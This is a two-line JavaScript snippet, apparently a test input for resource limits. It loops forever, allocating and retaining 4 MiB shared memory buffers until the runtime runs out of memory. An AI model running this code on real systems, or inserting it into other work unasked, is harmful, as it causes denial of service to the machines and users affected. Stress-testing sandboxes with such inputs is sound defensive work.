const kept = [];
while (true) kept.push(new Uint8Array(new SharedArrayBuffer(1 << 22)).fill(1));
